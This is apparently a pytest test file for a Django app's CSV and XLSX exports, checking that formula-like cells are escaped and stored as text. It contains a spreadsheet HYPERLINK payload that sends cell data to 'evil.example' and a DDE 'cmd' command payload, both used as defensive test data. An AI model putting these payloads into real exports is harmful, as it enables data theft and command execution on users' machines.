"""Exports are data, not code: formula-like text never becomes a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from gongkai.sheets import csv_cell
from gongkai.web.ledger.importing import bad_rows_csv

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("李四", "李四"),
        ("a=b", "a=b"),
        (-3, -3),  # a number stays a number
        (None, None),
    ],
)
def test_csv_cells_that_would_start_a_formula_get_an_apostrophe(value, escaped):
    assert csv_cell(value) == escaped


def test_the_register_xlsx_holds_the_name_as_text_not_a_formula(
    alice_client, make_request, agency_a
):
    make_request(agency_a, applicant_name=EVIL, description="-2024年预算")
    body = alice_client.get("/desk/export.xlsx").content
    sheet = load_workbook(io.BytesIO(body)).active
    row = [c for c in sheet[2]]
    name = row[5]
    assert (name.value, name.data_type) == (EVIL, "s")  # shown exactly as typed
    assert row[8].value == "-2024年预算"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_the_register_csv_escapes_formula_like_cells(alice_client, make_request, agency_a):
    make_request(agency_a, applicant_name=EVIL, description="@预算")
    text = alice_client.get("/desk/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][5] == "'" + EVIL
    assert rows[1][8] == "'@预算"


def test_the_ledger_csv_escapes_and_reimports_as_typed(alice_client, agency_a, alice):
    from datetime import date

    from django.utils import timezone

    from gongkai.web.ledger import services
    from gongkai.web.ledger.models import Item

    buf = io.StringIO()
    csv.writer(buf).writerows([["标题", "发布渠道", "发布日期"], [EVIL, "门户网站", "2024-05-06"]])
    data = buf.getvalue().encode()
    services.import_items(agency_a, alice, "a.csv", data, timezone.now(), date(2024, 6, 1))
    exported = alice_client.get("/ledger/?format=csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(exported)))[1][0] == "'" + EVIL
    Item.objects.all().delete()
    services.import_items(
        agency_a, alice, "b.csv", exported.encode(), timezone.now(), date(2024, 6, 1)
    )
    assert Item.objects.get().title == EVIL


def test_the_bad_rows_download_escapes_cells():
    text = bad_rows_csv(
        ["标题"], [{"line": 2, "reason": "发布日期为空", "cells": ["=cmd|' /C calc'!A0"]}]
    )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
